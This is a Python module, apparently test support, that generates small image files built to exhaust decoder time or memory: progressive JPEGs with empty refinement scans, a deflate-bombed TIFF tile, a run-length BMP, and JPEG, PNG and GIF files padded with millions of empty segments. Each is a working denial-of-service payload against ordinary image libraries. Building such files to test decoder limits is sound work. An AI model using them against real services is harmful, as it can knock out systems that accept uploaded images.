"""Small picture files that take long to decode, or much memory.

The headers are harmless: each file says that it holds a picture of usual size. The
first argument of each function says how bad its file is; by default it is too bad.
"""

import io
import struct
import zlib

from PIL import Image


def progressive_jpeg(scans=1000, side=6400):
    """Return a grey JPEG whose scans, but for the first, refine nothing.

    A refinement scan of empty blocks is a run of them: 15 bits for up to 32,767.
    """
    blocks = (side // 8) ** 2
    runs = [min(32767, blocks - start) for start in range(0, blocks, 32767)]
    bits = "".join(f"0{run - 16384:014b}" for run in runs if run >= 16384)
    bits += "1" * (-len(bits) % 8)
    packed = int(bits, 2).to_bytes(len(bits) // 8, "big").replace(b"\xff", b"\xff\0")
    quantisation = b"\xff\xdb\0C\0" + b"\1" * 64
    frame = b"\xff\xc2" + struct.pack(">HBHHB", 11, 8, side, side, 1) + b"\1\x11\0"
    codes = b"\xff\xc4\0\x14\0\1" + bytes(16) + b"\xff\xc4\0\x14\x10\1" + bytes(15)
    first = b"\xff\xda\0\x08\1\1\0\0\0\0" + bytes(blocks // 8)
    refinement = b"\xff\xda\0\x08\1\1\0\1\x3f\0" + packed
    head = b"\xff\xd8" + quantisation + frame + codes + b"\xe0" + first
    return head + refinement * scans + b"\xff\xd9"


def deflated_tile(tile=20_000):
    """Return a TIFF of 64x64 pixels whose one tile unpacks to tile x tile bytes."""
    pack = zlib.compressobj(9)
    data = b"".join(pack.compress(b"\x80" * tile) for _ in range(tile)) + pack.flush()
    data += bytes(len(data) % 2)
    tags = [(256, 4, 64), (257, 4, 64), (258, 3, 8), (259, 3, 8), (262, 3, 1)]
    tags += [(277, 3, 1), (322, 4, tile), (323, 4, tile), (324, 4, 8)]
    tags += [(325, 4, len(data))]
    entries = b"".join(struct.pack("<HHII", tag, kind, 1, n) for tag, kind, n in tags)
    directory = struct.pack("<H", len(tags)) + entries + bytes(4)
    return struct.pack("<2sHI", b"II", 42, 8 + len(data)) + data + directory


def runs_of_one_pixel(side=3150):
    """Return a BMP whose every pixel is a run of its own."""
    data = b"\1\x55" * side * side
    sizes = (40, side, side, 1, 8, 1, len(data), 0, 0, 256, 0)
    head = struct.pack("<IHHI", 1078 + len(data), 0, 0, 1078)
    return b"BM" + head + struct.pack("<IiiHHIIiiII", *sizes) + bytes(1024) + data


def empty_segments(count=3_000_000):
    """Return a JPEG with so many empty segments."""
    picture = small_picture("JPEG")
    return picture[:2] + b"\xff\xe5\0\2" * count + picture[2:]


def empty_chunks(count=1_000_000):
    """Return a PNG with so many empty chunks."""
    picture = small_picture("PNG")
    chunk = struct.pack(">I", 0) + b"abCd" + struct.pack(">I", zlib.crc32(b"abCd"))
    return picture[:33] + chunk * count + picture[33:]


def empty_comments(count=3_900_000):
    """Return a GIF with so many empty comments."""
    picture = small_picture("GIF")
    place = picture.index(b",", 13)  # of the first frame
    return picture[:place] + b"!\xfe\1x\0" * count + picture[place:]


def small_picture(kind):
    """Return a picture file of 16x16 black pixels."""
    stream = io.BytesIO()
    Image.new("L", (16, 16)).save(stream, kind)
    return stream.getvalue()


BOMBS = (
    progressive_jpeg,
    deflated_tile,
    runs_of_one_pixel,
    empty_segments,
    empty_chunks,
    empty_comments,
)
